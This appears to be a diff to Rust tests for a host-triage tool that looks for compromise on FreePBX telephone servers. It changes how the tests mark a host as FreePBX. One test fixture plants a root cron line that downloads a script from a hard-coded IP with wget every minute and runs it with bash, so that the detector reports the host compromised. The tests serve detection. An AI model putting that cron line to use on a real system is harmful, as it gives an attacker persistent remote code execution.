@@ -10,7 +10,7 @@ fn finding(rule: &str, path: &str, category: Category, (first, last): (i64, i64)
 }
 
 /// A host of some files, and what a check says of it.
-fn check_of(files: &[(&str, &str)], product: Option<Product>) -> Check {
+fn check_of(files: &[(&str, &str)]) -> Check {
     let folder = tempfile::tempdir().unwrap();
     for (path, text) in files {
         let path = folder.path().join(path);
@@ -24,17 +24,16 @@ fn check_of(files: &[(&str, &str)], product: Option<Product>) -> Check {
     let reading = Reading { options: crate::sweep::Options::default(), progress: &(), cancel: &|| false };
     let scan = scan(&target, detectors, reading).unwrap();
     let created = Timestamp::new(2_000_000_000, 0);
-    let about = About { tool: "triage".into(), now: None, created, product };
-    checker.answer(&target, &scan, &Families::builtin().unwrap(), about)
+    let about = About { tool: "triage".into(), now: None, created };
+    checker.answer(&target, &scan, &Families::builtin().unwrap(), about).unwrap()
 }
 
 fn word(check: &Check, question: Question) -> Option<Word> {
     check.answers.iter().find(|answer| answer.question == question).map(|answer| answer.answer)
 }
 
-fn freepbx() -> Product {
-    Product { name: "FreePBX".into(), version: None, has_pack: true }
-}
+/// What makes a host a FreePBX.
+const FREEPBX: (&str, &str) = ("etc/freepbx.conf", "<?php\n");
 
 const QUIET: [(&str, &str); 4] = [
     ("etc/passwd", "root:x:0:0::/root:/bin/bash\n"),
@@ -45,7 +44,7 @@ const QUIET: [(&str, &str); 4] = [
 
 #[test]
 fn what_was_not_read_is_not_known_and_silence_about_it_is_no_answer() {
-    let check = check_of(&QUIET, Some(freepbx()));
+    let check = check_of(&[&QUIET[..], &[FREEPBX]].concat());
     assert_eq!(word(&check, Question::Shells), Some(Word::NoEvidence));
     assert_eq!(word(&check, Question::Accounts), Some(Word::NoEvidence));
     assert_eq!(word(&check, Question::Database), Some(Word::NotKnown));
@@ -55,7 +54,7 @@ fn what_was_not_read_is_not_known_and_silence_about_it_is_no_answer() {
 
 #[test]
 fn a_host_without_a_telephone_system_is_not_asked_about_one() {
-    let check = check_of(&QUIET, None);
+    let check = check_of(&QUIET);
     assert_eq!(word(&check, Question::Database), None);
     assert_eq!(word(&check, Question::Fraud), None);
     assert_eq!((check.verdict, check.because), (Verdict::NoEvidence, None));
@@ -64,8 +63,7 @@ fn a_host_without_a_telephone_system_is_not_asked_about_one() {
 
 #[test]
 fn a_product_without_a_pack_is_undetermined() {
-    let product = Product { name: "VitalPBX".into(), version: None, has_pack: false };
-    let check = check_of(&QUIET, Some(product));
+    let check = check_of(&[&QUIET[..], &[("etc/vitalpbx/x.conf", "")]].concat());
     assert_eq!(check.verdict, Verdict::Undetermined);
     assert!(check.because.unwrap().contains("VitalPBX"));
 }
@@ -75,14 +73,15 @@ fn a_planted_host_is_answered_with_evidence_family_and_time() {
     let mut files = QUIET.to_vec();
     files.push(("usr/lib/.systemd/.cache", "* * * * * root true\n"));
     files.push(("var/spool/cron/root", "*/1 * * * * wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n"));
-    let check = check_of(&files, Some(freepbx()));
+    files.push(FREEPBX);
+    let check = check_of(&files);
     assert_eq!(check.verdict, Verdict::Compromised);
     assert_eq!(word(&check, Question::Persistence), Some(Word::Compromised));
     assert_eq!(check.families[0].id, "jomangy");
     assert!(!check.root_shown.is_empty());
     assert_eq!(check.ongoing.answer, Going::Likely);
-    assert!(check.first_act.unwrap().time <= check.last_act.unwrap().time);
-    let line: serde_json::Value = serde_json::from_str(&verdict_line(&check_of(&files, None)).unwrap()).unwrap();
+    assert!(check.first_act.as_ref().unwrap().time <= check.last_act.as_ref().unwrap().time);
+    let line: serde_json::Value = serde_json::from_str(&verdict_line(&check).unwrap()).unwrap();
     assert_eq!((&line["kind"], &line["verdict"]), (&"verdict".into(), &"compromised".into()));
 }
 
